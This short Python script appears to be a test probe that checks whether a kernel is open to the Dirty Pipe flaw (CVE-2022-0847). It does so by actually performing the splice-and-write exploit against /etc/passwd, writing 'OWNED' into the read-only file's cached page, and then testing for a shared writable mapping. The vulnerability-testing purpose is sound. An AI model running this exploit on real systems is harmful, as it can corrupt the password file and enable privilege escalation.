# Writing to a read-only file through a pipe that holds its pages (CVE-2022-0847 and kin).
import os
from attack import breach_if

path = "/etc/passwd"
before = open(path, "rb").read()
fd = os.open(path, os.O_RDONLY)
r, w = os.pipe()
size = 65536
os.write(w, b"x" * size)
os.read(r, size)
os.splice(fd, w, 1, offset_src=0)
os.write(w, b"OWNED")
import mmap

view = mmap.mmap(fd, 0, prot=mmap.PROT_READ, flags=mmap.MAP_PRIVATE)
breach_if("a read-only file changed", open(path, "rb").read() != before or view[: len(before)] != before)
try:
    shared = mmap.mmap(fd, 0, prot=mmap.PROT_WRITE | mmap.PROT_READ, flags=mmap.MAP_SHARED)
    breach_if("a shared writable mapping of it", True)
except OSError as error:
    print("refused a shared writable mapping:", error.strerror)
